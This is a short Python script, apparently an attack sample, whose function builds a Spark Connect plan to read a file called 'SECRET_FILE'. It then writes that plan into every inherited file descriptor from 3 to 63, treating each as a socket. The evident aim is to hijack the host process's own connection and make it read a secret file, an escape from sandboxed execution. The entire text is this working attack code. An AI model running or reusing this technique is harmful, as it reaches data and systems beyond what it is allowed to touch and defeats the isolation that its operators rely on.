# seeks: file
# The last frame, by hand: a result whose relation reads a file.
# sample: yes
import socket
import struct

from pyspark.sql.connect import proto


def model(tg):
    relation = proto.Relation()
    relation.read.data_source.format = "text"
    relation.read.data_source.paths.append("SECRET_FILE")
    body, header = relation.SerializeToString(), b'{"kind": "plan"}'
    for number in range(3, 64):
        try:
            link = socket.socket(fileno=number)
            link.sendall(struct.pack("!BIQ", 8, len(header), len(body)) + header + body)
            link.detach()
        except OSError:
            pass
